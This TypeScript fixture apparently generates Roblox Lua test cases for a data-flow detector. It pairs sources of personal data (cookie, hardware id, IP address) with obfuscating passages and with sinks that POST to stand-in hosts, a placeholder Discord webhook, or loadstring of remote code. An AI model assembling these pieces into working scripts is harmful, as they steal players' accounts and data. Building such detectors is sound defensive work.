// Where data comes from in generated scripts, how it passes on, and what is done with it.
import type { CapabilityId } from '../src/index.ts'

export interface Source {
  before?: string
  value: string
  /** Whether it is data about the player. */
  isPersonal?: true
}

export const SOURCES: Record<string, Source> = {
  'player name': { value: 'game:GetService("Players").LocalPlayer.Name', isPersonal: true },
  'display name': { value: 'game.Players.LocalPlayer.DisplayName', isPersonal: true },
  'user id': { value: 'tostring(game.Players.LocalPlayer.UserId)', isPersonal: true },
  'account age': { value: 'game.Players.LocalPlayer.AccountAge', isPersonal: true },
  'full name': { value: 'game.Players.LocalPlayer:GetFullName()', isPersonal: true },
  'character name': { value: 'game.Players.LocalPlayer.Character:GetFullName()', isPersonal: true },
  'head of the character': { value: 'game.Players.LocalPlayer.Character.Head.Parent.Name', isPersonal: true },
  'camera subject': { value: 'workspace.CurrentCamera.CameraSubject.Parent.Name', isPersonal: true },
  'name from id': { value: 'game.Players:GetNameFromUserIdAsync(1)', isPersonal: true },
  'all players': { value: 'game.Players:GetPlayers()[1].Name', isPersonal: true },
  'text of the player': { value: 'tostring(game.Players.LocalPlayer)', isPersonal: true },
  'job id': { value: 'game.JobId', isPersonal: true },
  'hardware id': { value: 'gethwid()', isPersonal: true },
  'client id': { value: 'game:GetService("RbxAnalyticsService"):GetClientId()', isPersonal: true },
  'IP address': { value: 'game:HttpGet("https://api.ipify.org")', isPersonal: true },
  cookie: { value: 'getcookie()', isPersonal: true },
  'property by a computed name': {
    before: 'local key = ({"Name", "UserId"})[game.PlaceId % 2 + 1]',
    value: 'tostring(game.Players.LocalPlayer[key])',
    isPersonal: true,
  },
  'property by an unknown name': {
    before: 'local key = workspace.Setting.Value',
    value: 'tostring(game.Players.LocalPlayer[key])',
    isPersonal: true,
  },
  file: { value: 'readfile("a.txt")' },
  'remote text': { value: 'game:HttpGet("https://files.example/a")' },
  'place id': { value: 'tostring(game.PlaceId)' },
  constant: { value: '"text"' },
}

/** How data passes on its way to a sink: an expression of the text `d`. */
export const PASSAGES: Record<string, { before?: string; value: string }> = {
  plain: { value: 'd' },
  format: { value: 'string.format("%s-%d", d, 1)' },
  interpolation: { value: '`<{d}>`' },
  json: { value: 'game:GetService("HttpService"):JSONEncode({x = {d}})' },
  upper: { value: 'd:upper():reverse():rep(2)' },
  'gsub with a function': { value: 'd:gsub(".", function(c) return string.format("%02x", c:byte()) end)' },
  'characters in a list': {
    before: 'local parts = {} d:gsub(".", function(c) parts[#parts + 1] = c end)',
    value: 'table.concat(parts)',
  },
  'a loop over characters': {
    before: 'local out = "" for i = 1, #d do out = out .. string.char((d:byte(i) + 1) % 256) end',
    value: 'out',
  },
  'a map of characters': {
    before: 'local map = {a = "1", b = "2"} local out = "" for c in d:gmatch(".") do out = out .. (map[c] or c) end',
    value: 'out',
  },
  'a closure': { before: 'local function get() return d end', value: 'get()' },
  'an object': {
    before: 'local Box = {} Box.__index = Box function Box.new(v) return setmetatable({v = v}, Box) end',
    value: 'Box.new(d).v',
  },
  __tostring: { value: 'tostring(setmetatable({}, {__tostring = function() return d end}))' },
  __concat: { value: '(setmetatable({}, {__concat = function(a, b) return d .. b end}) .. "!")' },
  'a coroutine': { value: 'coroutine.wrap(function() coroutine.yield(d) end)()' },
  pcall: { value: 'select(2, pcall(function() return d end))' },
  'an error': { value: 'select(2, pcall(error, d))' },
  varargs: { value: '(function(...) return (select("#", ...) > 0) and (...) or "" end)(d)' },
  'table.unpack': { value: 'select(-1, table.unpack({1, 2, d}))' },
  'table.sort': { before: 'local list = {d, "a"} table.sort(list)', value: 'list[2]' },
  buffer: { before: 'local b = buffer.create(64) buffer.writestring(b, 0, d)', value: 'buffer.tostring(b)' },
  attribute: { before: 'script:SetAttribute("d", d)', value: 'script:GetAttribute("d")' },
  'a global': { before: '_G.d = d', value: '_G.d' },
  'an upvalue': { before: 'local x = "" task.spawn(function() x = d end)', value: 'x' },
}

export interface Sink {
  /** Arguments with the text `d` in them. */
  args: string
  ids: CapabilityId[]
  /** A path of globals, or a method of an object. */
  path?: string
  object?: string
  method?: string
  /** Whether it sends the data away. */
  isSending?: true
  text?: string
}

export const HOOK = `https://discord.com/api/webhooks/123456789012345678/${'AbCdEfGh'.repeat(8)}`

export const SINKS: Record<string, Sink> = {
  request: {
    path: 'request',
    args: '{Url = "https://a.example/x", Method = "POST", Body = d}',
    ids: ['net.send'],
    isSending: true,
  },
  'syn.request': {
    path: 'syn.request',
    args: '{Url = "https://a.example/x", Method = "POST", Headers = {a = d}}',
    ids: ['net.send'],
    isSending: true,
  },
  webhook: {
    path: 'http_request',
    args: `{Url = "${HOOK}", Method = "POST", Body = d}`,
    ids: ['net.send', 'net.webhook'],
    isSending: true,
  },
  HttpGet: { object: 'game', method: 'HttpGet', args: '"https://a.example/?" .. d', ids: ['net.get'], isSending: true },
  HttpPost: { object: 'game', method: 'HttpPost', args: '"https://a.example/", d', ids: ['net.send'], isSending: true },
  PostAsync: {
    object: 'game:GetService("HttpService")',
    method: 'PostAsync',
    args: `"${HOOK}", d`,
    ids: ['net.send', 'net.webhook'],
    isSending: true,
  },
  RequestAsync: {
    object: 'game:GetService("HttpService")',
    method: 'RequestAsync',
    args: '{Url = "https://a.example/", Method = "PUT", Body = d}',
    ids: ['net.send'],
    isSending: true,
  },
  writefile: { path: 'writefile', args: '"a.txt", d', ids: ['fs.write'] },
  delfile: { path: 'delfile', args: '"a.txt"', ids: ['fs.delete'] },
  setclipboard: { path: 'setclipboard', args: 'd', ids: ['user.clipboard'] },
  loadstring: { path: 'loadstring', args: 'game:HttpGet("https://a.example/x")', ids: ['code.remote'] },
  queue_on_teleport: { path: 'queue_on_teleport', args: '"print(1)"', ids: ['code.persist'] },
  purchase: {
    object: 'game:GetService("MarketplaceService")',
    method: 'PromptPurchase',
    args: 'game.Players.LocalPlayer, 1',
    ids: ['user.purchase'],
  },
  teleport: { object: 'game:GetService("TeleportService")', method: 'Teleport', args: '1', ids: ['game.teleport'] },
  kick: { object: 'game.Players.LocalPlayer', method: 'Kick', args: '"no"', ids: ['game.kick'] },
  socket: { path: 'WebSocket.connect', args: '"wss://a.example/"', ids: ['net.socket'] },
  require: { path: 'require', args: '1234567', ids: ['code.asset'] },
  asset: { object: 'game', method: 'GetObjects', args: '"rbxassetid://1"', ids: ['code.asset'] },
  keypress: { path: 'keypress', args: '65', ids: ['user.input'] },
  getgc: { path: 'getgc', args: 'true', ids: ['client.inspect'] },
}
